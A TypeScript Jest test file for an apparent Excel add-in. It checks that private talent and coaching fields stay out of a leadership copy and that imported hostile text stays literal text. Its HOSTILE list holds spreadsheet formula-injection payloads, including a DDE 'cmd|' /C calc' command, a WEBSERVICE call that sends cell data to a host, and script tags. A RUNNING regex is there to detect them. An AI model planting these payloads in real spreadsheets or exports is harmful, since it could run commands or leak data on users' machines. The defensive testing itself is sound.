import { copyOf } from "../../src/entry/book/copyOf";
import type { ExportInput } from "../../src/intake/reader/exportBatches";
import { excelDesk } from "../../src/pane/app/excelDesk";
import type { SourceCell } from "../../src/share/model/cell";
import { readWorkbook } from "../../src/share/model/readWorkbook";
import { cellsOf } from "../../src/share/model/sheetContent";
import { newTally } from "../../src/share/tally";
import { bytesOf, DIALECTS, type WrittenDialect } from "../intake/dialects";
import { delimited } from "../intake/exports";
import { generatedLines } from "../intake/generatedDeals";
import { applyEdits } from "../../src/excel/writing/applyEdits";
import { saveTarget } from "../../src/excel/saveTarget";
import { dealPagePlan } from "../../src/schema/printed/dealPage";
import { personPagePlan } from "../../src/schema/printed/personPage";
import { briefPlan } from "../../src/schema/sheets/brief";
import { inspectionPlan } from "../../src/schema/sheets/inspection";
import { talent } from "../../src/schema/sheets/talent";
import { tableEdit } from "../../src/schema/tableEdit";
import { saveReview } from "../../src/excel/saveReview";
import { leaksIn } from "../share/leakScanner";
import { ooxmlErrors } from "../share/ooxmlErrors";
import { repairFaults } from "../share/repairFaults";
import { calculated, MONDAY, planFor, standingBook, valuesOf } from "./sampleBook";
import { buildSmallBook, importLines, someDeals } from "./smallBook";
import { ANSWERS, REVIEW } from "./smallReview";

jest.setTimeout(300_000);

/** A word that stands in one private place only. */
function wordOf(place: string): string {
  return `Qz${place.replaceAll(/[^A-Za-z]/g, "")}Hush`;
}

const TALENT = ["Member", "Role", "Strengths", "Weaknesses", "Retention plan", "Next role"];
const PLACES = [...TALENT, "Judgment", "Own column", "Coaching note", "Tab", "Job agreement", "Note beside"];
const WORDS = PLACES.map(wordOf);

/** Puts a word into every private place that a manager would use. */
async function plantWords(): Promise<void> {
  await Excel.run(async (context) => {
    const { tables, worksheets } = context.workbook;
    const talent = tables.getItem("Talent");
    for (const header of TALENT) bodyCell(talent, header).values = [[wordOf(header)]];
    const deals = tables.getItem("Pipeline");
    bodyCell(deals, "Judgment").dataValidation.clear();
    bodyCell(deals, "Judgment").values = [[wordOf("Judgment")]];
    const own = deals.columns.add(undefined, [["'=1+1"], [wordOf("Own column")], ["x"], ["x"], ["x"]]);
    own.getDataBodyRange().load("address");
    bodyCell(tables.getItem("JobAgreement"), "What we agreed").values = [[wordOf("Job agreement")]];
    const pipeline = worksheets.getItem("Pipeline");
    pipeline.getRange("AJ2").values = [[wordOf("Note beside")]];
    worksheets.getItem("Actions").name = `Actions ${wordOf("Tab")}`;
    await context.sync();
  });
}

function bodyCell(table: Excel.Table, header: string): Excel.Range {
  return table.columns.getItem(header).getDataBodyRange().getCell(0, 0);
}

/** Texts that would run, break a file or vanish where one takes them for more than text. */
const HOSTILE = [
  "=1+1",
  "+A1",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "'=1+1",
  '=HYPERLINK("http://example.com","Click")',
  '=WEBSERVICE("http://example.com/"&A1)',
  "=cmd|' /C calc'!A0",
  '<script>alert("1")</script> &amp; <b>bold</b>',
  "nul \u0000, bell \u0007, half \ud83d, none \uffff",
  "_x0041_ and _x000D_\r\n",
  "TRUE",
  "1e5",
  "1E5",
  "00123",
  "#N/A",
  "#REF!",
  "#DIV/0!",
  "'abc",
  "=",
  `=${"x".repeat(32_765)}`,
];

/** Names that an export may bring, and that go on to other sheets: roll-ups, stages, printed pages. */
const OWNERS = ["=cmd|' /C calc'!A0", "#N/A", "@SUM(A1)", "<b>Bo</b> & Co"];
const STAGES = ["=1+1", "#REF!", "00123", "+Late"];

/** A period of the user's, and the deals whose pages are printed: each kind of text once. */
const PERIOD = "=1+1";
const PAGES = ["=1+1", "@SUM(A1)", "\t=1+1", "'=1+1", "TRUE", "00123", "#N/A", "'abc", "="].map(
  (text) => `H-${HOSTILE.indexOf(text) + 1}`,
);

function turn(names: readonly string[], at: number): string {
  return names[at % names.length] ?? "";
}

/** The texts as the names of deals H-1 and on, in an export whose own columns have hostile headers too. */
function hostileExport(): string {
  const headers = [
    "Opportunity ID",
    "Opportunity Name",
    "Account Name",
    "Opportunity Owner",
    "Stage",
    "Amount",
    "Close Date",
    "Next Step",
    "Competitor",
    "=1+1",
    "@x\u0000",
  ];
  const rows = HOSTILE.map((text, index) => [
    `H-${index + 1}`,
    text,
    turn(HOSTILE, index + 1),
    turn(OWNERS, index),
    turn(STAGES, index),
    String(900_000 + index),
    "2026-12-18",
    turn(OWNERS, index + 1),
    turn(STAGES, index + 1),
    "=2",
    "+3",
  ]);
  return delimited([headers, ...rows]);
}

/** Where pages show the texts: each tab with a text that stands on it by itself. */
const ON_PAGES: readonly (readonly [string, string])[] = [
  ...OWNERS.flatMap((owner) => [["Forecast", owner] as const, ["Inspection", owner] as const]),
  ["Forecast", PERIOD],
  ...["=1+1", "@SUM(A1)", "TRUE", "00123", "="].map((deal) => [deal, deal] as const),
  ["=1+1 (2)", "\t=1+1"],
  ["=1+1 (3)", "'=1+1"],
  ["#N-A", "#N/A"],
  ["abc", "'abc"],
  ["=cmd|' -C calc'!A0 🔒", "=cmd|' /C calc'!A0"],
  ["#N-A 🔒", "#N/A"],
  ["@SUM(A1) 🔒", "@SUM(A1)"],
  ["<b>Bo<-b> & Co 🔒", "<b>Bo</b> & Co"],
];

/** What would run if one of the texts had become a formula. */
const RUNNING = /cmd\||HYPERLINK\(|WEBSERVICE\(|^(?:[-+]?[12]\+[13]|\+?A1|@?SUM\(A1\)|\+?Late|abc|[23])$/;

async function importExport(file: ExportInput): Promise<void> {
  const plan = await planFor(file, await standingBook());
  const applied = await excelDesk.applyImport(plan, MONDAY, {});
  if (!applied.ok) throw new Error(JSON.stringify(applied));
}

/** Chooses a period of such a name, and makes the pages of deals and owners of such names, the brief and the inspection. */
async function makeHostilePages(): Promise<void> {
  const target = { period: PERIOD, start: MONDAY - 40, end: MONDAY + 60, target: 2_000_000 };
  const members = tableEdit(talent, { added: OWNERS.map((owner) => ({ Member: owner })) });
  const done = [await saveTarget(target), await applyEdits([members])];
  await Excel.run(async (context) => {
    context.workbook.names.getItem("Period").getRange().values = [[`'${PERIOD}`]];
    await context.sync();
  });
  await importExport(hostileExport());
  const { deals } = await standingBook();
  const shown = deals.map(({ record }) => record).filter(({ dealId }) => PAGES.includes(dealId));
  const pages = [...shown.map((deal) => dealPagePlan({ deal })), ...OWNERS.map(personPagePlan)];
  const made = [];
  for (const plan of pages) made.push(await excelDesk.writePage(plan));
  for (const plan of [briefPlan(), inspectionPlan()]) made.push(await excelDesk.makeTab(plan));
  for (const each of [...done, ...made]) if (!each.ok) throw new Error(JSON.stringify(each));
  await calculated();
}

/** The cells of a saved workbook's Pipeline that hold the hostile texts' deals, below their header. */
function hostileCells(bytes: Uint8Array): readonly SourceCell[] {
  const sheet = readWorkbook(bytes, newTally()).sheets.find(({ name }) => name === "Pipeline");
  const cells = sheet?.content ? [...cellsOf(sheet.content)] : [];
  const column = cells.find(({ value }) => value === "Deal")?.column;
  const ids = cells.filter(({ value }) => typeof value === "string" && value.startsWith("H-"));
  return ids.flatMap(({ row }) => cells.filter((cell) => cell.row === row && cell.column === column));
}

/** The generated deals as an export that has an id and writes everything in a dialect. */
function generatedExport(dialect: WrittenDialect): Uint8Array {
  const columns = {
    "Opportunity ID": "dealId",
    "Opportunity Name": "deal",
    "Account Name": "account",
    "Opportunity Owner": "owner",
    Stage: "stage",
    "Forecast Category": "category",
    Amount: "amount",
    "Probability (%)": "probability",
    "Close Date": "closeDate",
    "Created Date": "created",
    "Next Step": "nextStep",
    Type: "type",
  };
  return Uint8Array.from(bytesOf(generatedLines(columns, dialect), dialect));
}

/** Every cell of a saved workbook with its sheet. */
function cellsWithin(bytes: Uint8Array): readonly (SourceCell & { readonly sheet: string })[] {
  return readWorkbook(bytes, newTally()).sheets.flatMap(({ name, content }) =>
    content ? [...cellsOf(content)].map((cell) => ({ ...cell, sheet: name })) : [],
  );
}

let book: Uint8Array;
let copy: Uint8Array;

beforeAll(async () => {
  await buildSmallBook();
  await importLines(someDeals(4));
  const saved = await saveReview({ ...REVIEW, coachingNote: wordOf("Coaching note") }, ANSWERS);
  if (!saved.ok) throw new Error(JSON.stringify(saved));
  await plantWords();
  await importExport(hostileExport());
  await makeHostilePages();
  for (const dialect of DIALECTS.slice(1, 2)) await importExport(generatedExport(dialect));
  await excelHost.book.settle();
  book = Uint8Array.from(await excelHost.save());
  ({ bytes: copy } = await copyOf(book, MONDAY));
});

describe("the leadership copy of a book with words in its private places", () => {
  it("has none of them, raw or unpacked, though the book has them all", () => {
    expect(leaksIn(book, WORDS)).toEqual(WORDS);
    expect(leaksIn(copy, WORDS)).toEqual([]);
  });

  it("has the deals that leadership may see", () => {
    expect(leaksIn(copy, ["Deal D-1", "Ana Ruiz"])).toEqual(["Deal D-1", "Ana Ruiz"]);
  });

  it("is a workbook without an error, and so is the book", async () => {
    expect(await ooxmlErrors(book)).toEqual([]);
    expect(await ooxmlErrors(copy)).toEqual([]);
    expect(repairFaults(copy)).toEqual([]);
  });
});

describe("text that would run or break a file", () => {
  it("arrives exactly, and is the same next week", async () => {
    const { deals } = await standingBook();
    const names = deals.map(({ record }) => record).filter(({ dealId }) => dealId.startsWith("H-"));
    expect(names.map(({ deal }) => deal)).toEqual(HOSTILE);
    expect(names.map(({ account }) => account)).toEqual(HOSTILE.map((_, at) => turn(HOSTILE, at + 1)));
    expect(names.map(({ owner }) => owner)).toEqual(HOSTILE.map((_, at) => turn(OWNERS, at)));
    expect(names.map(({ stage }) => stage)).toEqual(HOSTILE.map((_, at) => turn(STAGES, at)));
    const again = await planFor(hostileExport(), await standingBook());
    expect(again.unchanged).toHaveLength(HOSTILE.length);
    expect([again.added, again.changed, again.refused]).toEqual([[], [], []]);
  });

  it("is text, and no formula, in the saved workbook and in the leadership copy", () => {
    for (const bytes of [book, copy]) {
      const cells = hostileCells(bytes);
      expect(cells.map(({ value }) => value)).toEqual(HOSTILE);
      expect(cells.map(({ formula }) => formula)).toEqual(HOSTILE.map(() => undefined));
    }
  });

  it("is a text too where it goes on: owners and stages on other sheets, as they are and without an error", () => {
    const cells = cellsWithin(book);
    const shown = (name: string, sheet: string): boolean =>
      cells.some((cell) => cell.sheet === sheet && cell.value === name);
    for (const owner of OWNERS) expect([owner, shown(owner, "Forecast")]).toEqual([owner, true]);
    for (const stage of STAGES) expect([stage, shown(stage, "Settings")]).toEqual([stage, true]);
    const isOwnFunction = ({ formula }: SourceCell): boolean =>
      formula?.text.includes("CONTROLBOOK_") === true;
    expect(cells.filter((cell) => typeof cell.value === "object" && !isOwnFunction(cell))).toEqual([]);
  });

  it("is a text on every page that shows it: no formula is made of it, and each page says it as it is", () => {
    for (const bytes of [book, copy]) {
      const formulas = cellsWithin(bytes).flatMap(({ sheet, formula }) =>
        formula ? [{ sheet, text: formula.text.replaceAll(/"[^"]*"/g, "") }] : [],
      );
      expect(formulas.filter(({ text }) => RUNNING.test(text))).toEqual([]);
    }
    const shownOn = new Map<string, Set<unknown>>();
    for (const { sheet, value } of cellsWithin(book))
      shownOn.set(sheet, (shownOn.get(sheet) ?? new Set()).add(value));
    const lacking = ON_PAGES.filter(([tab, text]) => shownOn.get(tab)?.has(text) !== true);
    expect(lacking).toEqual([]);
  });

  it("is a name to the pages that count by it, and no comparison", async () => {
    const { deals } = await standingBook();
    const open = deals.map(({ record }) => record).filter(({ status }) => status === "Open");
    const page = await valuesOf("Inspection", "B1:D60");
    const lineOf = (name: string): readonly unknown[] => page.find(([first]) => first === name) ?? [];
    // Excel's criteria take what looks like an error for one, so such names are not counted
    for (const owner of OWNERS.filter((name) => !name.startsWith("#")))
      expect([owner, lineOf(owner)[1]]).toEqual([owner, open.filter((deal) => deal.owner === owner).length]);
    for (const stage of STAGES.filter((name) => !name.startsWith("#")))
      expect([stage, lineOf(stage)[2]]).toEqual([stage, open.filter((deal) => deal.stage === stage).length]);
  });

  it("comes back from the saved workbook: its own Pipeline is an export that changes nothing", async () => {
    const state = await standingBook();
    const plan = await planFor(book, state, "Pipeline");
    expect(plan.unchanged).toEqual(state.deals.map(({ record }) => record));
    expect([plan.added, plan.changed, plan.missing, plan.refused]).toEqual([[], [], [], []]);
  });
});

describe("an export that went into the book and was saved", () => {
  it.each(DIALECTS)("is the same deals again in every dialect: $name", async (dialect) => {
    const state = await standingBook();
    const written = await planFor(generatedExport(dialect), state);
    expect(written.unchanged).toHaveLength(24);
    expect([written.added, written.changed, written.refused]).toEqual([[], [], []]);
  });
});
